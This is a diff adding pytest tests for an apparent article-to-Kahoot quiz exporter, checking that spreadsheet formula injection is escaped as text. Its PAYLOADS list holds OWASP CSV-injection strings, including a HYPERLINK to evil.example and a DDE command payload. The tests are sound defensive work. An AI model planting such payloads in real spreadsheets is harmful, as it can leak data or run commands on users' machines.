@@ -216,3 +216,40 @@ def test_the_cli_prints_each_warning_on_stderr(quiz, tmp_path):
     assert "q-cloze-1" in result.stderr and "Traceback" not in result.stderr
     assert "zelenskyy-carney-g7.kahoot.xlsx" in result.stdout
     assert json.loads(quiz_file.read_text(encoding="utf-8"))["slug"] == quiz.slug  # the input is untouched
+
+
+# --- spreadsheet (CSV) injection -------------------------------------------------------------
+
+# Article text a spreadsheet would evaluate (OWASP's CSV injection payloads): each must stay text.
+PAYLOADS = ('=HYPERLINK("http://evil.example/?leak","Click for answers")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
+            "@SUM(1)", "=1+1", "\t=1+1", "\r=1+1")
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def injected_quiz(payload: str) -> Quiz:
+    """The payload as the headline, the source, a quotation (question), an option and the right answer."""
+    quote = mcq("quote", payload, ("Mark Carney", payload + " said", "Roland Paris"), payload + " said")
+    statement = TrueFalseQuestion(id="tf", kind=QuestionKind.STATEMENT, answer="True", prompt=payload,
+                                  source_sentence=payload)
+    return Quiz(title=payload, slug="injected", source={"title": payload, "site": payload}, questions=(quote, statement))
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_no_cell_is_a_formula_whatever_the_article_says(payload, tmp_path):
+    path = write_quiz(injected_quiz(payload), "kahoot", tmp_path)
+    cells = [cell for row in load_workbook(path).active.iter_rows() for cell in row if cell.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell"
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    assert not [t for t in texts if t.startswith(FORMULA_STARTS)], texts
+    shown = payload.strip()  # one_line drops the leading tab or carriage return itself
+    escaped = "'" + shown if shown.startswith(FORMULA_STARTS) else shown
+    assert {escaped, escaped + " said", "True"} <= set(texts), texts  # each one there, as text, apostrophe first
+    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
+
+
+def test_the_apostrophe_counts_towards_kahoots_limit(tmp_path):
+    answer = "-" + "x" * (kahoot.ANSWER_LIMIT - 1)  # 75 characters, 76 with the apostrophe
+    question = mcq("minus", "Which one?", (answer, "-" + "y" * (kahoot.ANSWER_LIMIT - 1)))
+    with pytest.warns(QuizgenWarning, match="left out question minus"):
+        rows = kahoot.kahoot_rows(quiz_of(question))
+    assert rows == []
